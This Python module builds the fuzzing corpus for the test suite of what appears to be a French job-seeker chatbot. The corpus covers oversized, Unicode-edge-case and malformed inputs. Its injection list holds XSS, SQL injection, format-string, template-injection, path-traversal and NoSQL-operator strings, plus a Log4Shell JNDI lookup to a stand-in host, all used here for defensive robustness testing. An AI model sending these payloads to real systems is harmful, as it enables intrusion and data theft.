"""The fuzz bar's corpus: nasty texts and nasty request bodies, built deterministically.

Texts: huge ones, emoji (ZWJ sequences, flags, skin tones), control characters and
lone surrogates, other scripts (right-to-left, CJK, combining marks), markup and
injection strings, button payloads gone wrong, and pumping strings built from the
alternatives of every regular expression of the project (tests/security/pumping.py).
Bodies: malformed JSON and form encodings, deep nesting, invalid UTF-8.
"""

from __future__ import annotations

import random
import re
from collections.abc import Iterable

from tests.security.pumping import Found, pumping_strings

__all__ = ["BAD_FORMS", "BAD_JSON", "nasty_texts"]

_EMOJI = [
    "👩‍⚕️",
    "👨‍👩‍👧‍👦",
    "🇫🇷",
    "👍🏿",
    "🧑🏽‍🦽",
    "❤️‍🔥",
    "🏳️‍🌈",
    "\U0001f600",
    "\u2764\ufe0f",
    "🫶",
]
_SCRIPTS = [
    "مرحبا، أبحث عن عمل كمساعدة منزلية في نانت",  # Arabic (right to left)
    "שלום אני מחפשת עבודה",  # Hebrew
    "我想成为护理人员，工资多少？",  # Chinese
    "介護の仕事を探しています",  # Japanese
    "안녕하세요 요양보호사",  # Korean
    "Здравствуйте, я ищу работу сиделкой",  # Cyrillic
    "नमस्ते मुझे नौकरी चाहिए",  # Devanagari
    "สวัสดีครับ ผมหางาน",  # Thai
    "Γειά σου, ψάχνω δουλειά",  # Greek
    "аide-soignаnte sаlаire",  # Cyrillic "а" in French words (homoglyphs)
    "ＡＩＤＥ－ＳＯＩＧＮＡＮＴＥ",  # fullwidth
    "ᴀɪᴅᴇ sᴏɪɢɴᴀɴᴛᴇ",  # small capitals
]
_INJECTIONS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "'; DROP TABLE conversations; --",
    "' OR '1'='1",
    "%s%s%s%n%x",
    "{{7*7}}{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "\\x00\\u0000",
    "javascript:alert(1)",
    "[lien](javascript:alert(1))",
    "*" * 500 + "_" * 500,
    "`" * 1000,
]
_PAYLOADS = [
    "/",
    "/affirm" * 500,
    '/book_event{"event_id": ' + "[" * 3000,
    '/book_event{"event_id": "' + "x" * 5000 + '"}',
    '/book_event{"event_id": null}',
    '/book_event{"event_id": {"$gt": ""}}',
    "/inform{" + '"a":' * 2000 + "1" + "}" * 2000,
    "/" + "a" * 4000 + "{",
    '/list_events{"departement": "33", "departement": "75"}',
    "/human_handoff{}" * 100,
    "/erase_data",
    "/restart",
    "/session_start",
    '/inform{"commune": "' + "\u202e" * 100 + '"}',
]
_FRENCH = [
    "c'est combien le salaire d'une aide-soignante ?",
    "je cherche un travail d'aide à domicile à Rezé, j'ai pas le permis et 2 enfants",
    "supprimer mes données",
    "STOP",
    "oui",
    "non",
    "pas " + " mon" * 30,  # the catastrophic filler of issue 18
    "'" * 4000,
    "75001 " * 600,
    "06 12 34 56 78 " * 250,
    "a@a." * 1000,
    "31/02/2026 " * 300,
]


def _controls() -> list[str]:
    c0 = "".join(chr(i) for i in range(32))
    c1 = "".join(chr(i) for i in range(0x7F, 0xA0))
    return [
        c0,
        c1,
        "\x00" * 1000,
        "bonjour\x00",
        "\r\n" * 1500,
        "\u2028\u2029" * 500,
        "\ufeffbonjour",
        "\ud800",  # lone surrogates (valid in JSON as escapes, not in UTF-8)
        "a\udfffb",
        "\u200b" * 3000,  # zero-width spaces
        "\u202e" + "cinoce",  # right-to-left override
        "a" + "\u0301" * 3000,  # a "zalgo" letter
        "Z̸̡̛͖̗̻̪̯͍̹̰͌̈́̋͂̾̓a̸̛̤̱̓̏l̴̙̇g̷o" * 50,
        "\t" * 4000,
        " " * 100_000,
        "\U0010ffff" * 100,
    ]


def _huge() -> list[str]:
    return [
        "a" * 100_000,
        "é" * 5_000,
        "mon " * 20_000,
        "👩‍⚕️" * 2_000,
        "bonjour " * 12_000,
        "x" * 4_001,
        "aide-soignante " * 300,
        "-" * 60_000,
    ]


def _pumping(patterns: Iterable[Found], rng: random.Random, count: int) -> list[str]:
    """``count`` pumping strings, spread over every pattern (at most 4,000 characters:
    the longest message a turn reads)."""
    every: list[str] = []
    for item in patterns:
        try:
            strings = pumping_strings(item.pattern, 4000)
        except (re.error, RecursionError, ValueError):
            continue
        if strings:
            every.append(rng.choice(strings))
    rng.shuffle(every)
    return every[:count]


def nasty_texts(patterns: Iterable[Found], count: int, seed: int = 18) -> list[str]:
    """``count`` texts: the fixed nasty ones, mixed emoji and scripts, then pumping
    strings (about a third), cycled if need be."""
    rng = random.Random(seed)
    fixed = _huge() + _controls() + _SCRIPTS + _INJECTIONS + _PAYLOADS + _FRENCH
    fixed += _EMOJI + ["".join(rng.choices(_EMOJI, k=rng.randint(2, 400))) for _ in range(20)]
    mixed = [
        " ".join(
            rng.choice(_SCRIPTS + _FRENCH[:6] + _EMOJI + _INJECTIONS[:4])[:200]
            for _ in range(rng.randint(2, 8))
        )
        for _ in range(60)
    ]
    pumped = _pumping(patterns, rng, max(count - len(fixed) - len(mixed), count // 3))
    texts = fixed + mixed + pumped
    while len(texts) < count:
        texts += texts[: count - len(texts)]
    return texts[:count]


#: request bodies for the JSON endpoints that no parser should trip on
BAD_JSON: list[bytes] = [
    b"",
    b"{",
    b'{"sender": "web:x", "message": ',
    b"[" * 100_000,
    b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    b'{"sender": "web:x", "message": 1e999999}',
    b'{"sender": "web:x", "message": NaN}',
    b'{"sender": "web:x", "message": "\\ud800"}',
    b"\xff\xfe\x00{",
    b'\xef\xbb\xbf{"sender": "web:x", "message": "bom"}',
    b'{"sender": "web:x", "message": "a", "message": "b"}',
    b'{"sender": ["web:x"], "message": {"text": "x"}}',
    b'{"sender": "web:x", "message": "' + b"\\u0000" * 1000 + b'"}',
    b'{"sender": "' + b"s" * 10_000 + b'", "message": "x"}',
    b"null",
    b"0",
    b'"just a string"',
    b"\x00" * 1000,
    b'{"text": ' + b'"' * 5000,
    b'{"sender": "web:x", "message": "x", "message_id": ' + b"9" * 5000 + b"}",
]

#: form bodies for the Twilio webhook and the console's login
BAD_FORMS: list[bytes] = [
    b"",
    b"%",
    b"Body=%ZZ&From=%",
    b"&" * 10_000,
    b"=" * 10_000,
    b"Body=" + b"%00" * 1000,
    b"Body=" + b"%F0%9F" * 500,  # cut UTF-8 sequences
    b"Body=a&" * 5_000,
    b"From=whatsapp%3A%2B33612345678&Body=" + b"%E2%80%AE" * 300,
    b"\xff\xfe=\xff",
    b"email=&password=&csrf_token=",
    b"email=" + b"a" * 50_000,
]
